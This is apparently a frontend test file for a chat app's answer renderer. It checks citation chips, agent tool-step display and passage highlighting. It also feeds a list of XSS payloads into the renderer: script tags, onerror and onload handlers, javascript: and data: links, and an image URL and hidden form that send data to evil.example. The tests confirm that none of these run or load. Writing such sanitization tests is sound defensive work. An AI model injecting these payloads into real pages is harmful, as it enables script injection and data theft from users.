import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";

import type { Citation } from "@/api/ask";
import { Answer } from "@/pages/chat/Answer";
import type { Exchange } from "@/pages/chat/exchange";
import { splitAt } from "@/pages/knowledge/PassageText";
import { RichText } from "@/ui/RichText";
import "./words.ts";

afterEach(cleanup);

const citation = (position: number, document: string): Citation => ({
  position,
  document,
  document_id: `d${position}`,
  knowledge: "team",
  knowledge_id: "k",
  chunk_id: `c${position}`,
  text: "연차는 16일입니다.",
  score: 0.9,
  scores: { dense: 0.8, keyword: 12, rerank: null, graph: null },
  page: 3,
  heading_path: [],
  quote: "16일",
});

const exchange = (answer: string, citations: readonly Citation[]): Exchange => ({
  key: "1",
  id: "m",
  parent: null,
  question: "연차는?",
  files: [],
  answer,
  state: "done",
  kind: "generated",
  model: "qwen3",
  citations,
  opinion: null,
  steps: [],
  forms: [],
});

const rich = (text: string, streaming = false) =>
  render(<RichText text={text} streaming={streaming} mark={(n) => <b data-mark={n} />} copyLabel="copy" copiedLabel="copied" />).container;

test("a mark in the answer and its chip open the passage", async () => {
  const opened = vi.fn();
  const one = citation(1, "규정.pdf");
  render(<Answer app="a" exchange={exchange("연차는 16일입니다. [1]", [one])} onCitation={opened} />);
  const buttons = await waitFor(() => {
    const found = screen.getAllByRole("button", { name: /규정\.pdf/ });
    expect(found).toHaveLength(2);
    return found;
  });
  for (const button of buttons) fireEvent.click(button);
  expect(opened.mock.calls).toEqual([[one], [one]]);
});

test("an agent's tools are folded above its answer, those under way by name", async () => {
  const step = {
    id: "r1",
    position: 1,
    thought: "시계를 봅니다",
    tool: "current_time;weather",
    tool_labels: { current_time: { en_US: "The time", ko_KR: "지금 시각" } },
    tool_input: JSON.stringify({ current_time: { timezone: "Asia/Seoul" }, weather: {} }),
    observation: JSON.stringify({ current_time: "12:00", weather: "Error: no such town" }),
  };
  const done = { ...exchange("정오입니다.", []), steps: [step] };
  const { rerender, container } = render(<Answer app="a" exchange={done} onCitation={() => undefined} />);
  expect(container.querySelector("details")?.open).toBe(false);
  expect(container.textContent).toContain("시계를 봅니다");
  expect(container.textContent).toContain("12:00");
  expect(container.querySelectorAll("pre")).toHaveLength(4);
  const busy = { ...done, state: "waiting" as const, answer: "", steps: [{ ...step, tool: "weather", observation: "" }] };
  rerender(<Answer app="a" exchange={busy} onCitation={() => undefined} />);
  expect(screen.getByRole("status").textContent).toContain("weather");
});

test("a number without a citation stays text", async () => {
  render(<Answer app="a" exchange={exchange("See [7] and [1].", [citation(1, "a.pdf")])} onCitation={() => undefined} />);
  await waitFor(() => expect(screen.getAllByRole("button", { name: /a\.pdf/ })).toHaveLength(2));
  expect(document.body.textContent).toContain("[7]");
});

test("brackets in code are code", () => {
  const box = rich("`a[1]` and\n\n```\nb[2]\n```\n\nand text [3]");
  expect([...box.querySelectorAll("[data-mark]")].map((mark) => mark.getAttribute("data-mark"))).toEqual(["3"]);
  expect(box.querySelector("pre")?.textContent).toContain("b[2]");
});

const ATTACKS = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror=\"window.hacked = 1\">",
  "<svg onload=alert(1)><iframe src=javascript:alert(1)></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "[x](javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](&#106;avascript:alert(1))",
  "![x](javascript:alert(1))",
  "![x](http://evil.example/a.png?secret)",
  "<style>*{display:none}</style><form action=http://evil.example><input name=a></form>",
  "<https://evil.example/<script>alert(1)</script>>",
  "```html\n<script>alert(1)</script>\n```",
];

test.each(ATTACKS)("an answer cannot run or load anything: %s", (text) => {
  for (const streaming of [false, true]) {
    const box = rich(`before ${text} after\n\n${text}`, streaming);
    expect(box.querySelectorAll("script, img, svg[onload], iframe, style, form, input, object, embed, link")).toHaveLength(0);
    for (const element of box.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on")).toBe(false);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
        if (name === "src" || name === "srcset") expect(value).toBe("");
      }
    }
    cleanup();
  }
});

test("HTML in an answer is shown as the letters it is", () => {
  expect(rich("a <b>bold</b> claim").textContent).toContain("a <b>bold</b> claim");
});

test("names with markup are only letters", async () => {
  const name = '<img src=x onerror="hacked()">.pdf';
  render(<Answer app="a" exchange={exchange("x [1]", [citation(1, name)])} onCitation={() => undefined} />);
  await waitFor(() => expect(screen.getAllByRole("button", { name: /onerror/ })).toHaveLength(2));
  expect(document.querySelectorAll("img")).toHaveLength(0);
  expect(document.body.textContent).toContain(name);
});

test("half a table and half a link of a stream are no broken page", () => {
  for (const text of ["| a | b |\n| - |", "[the ", "**bo", "```py\nx = 1", "> quo"]) expect(() => rich(text, true)).not.toThrow();
});

test("the quoted words are found in the passage, or nothing is lit", () => {
  expect(splitAt("연차는 16일입니다.", "16일")).toEqual(["연차는 ", "16일", "입니다."]);
  expect(splitAt("text", "other")).toEqual(["text", "", ""]);
  expect(splitAt("text", "")).toEqual(["text", "", ""]);
});
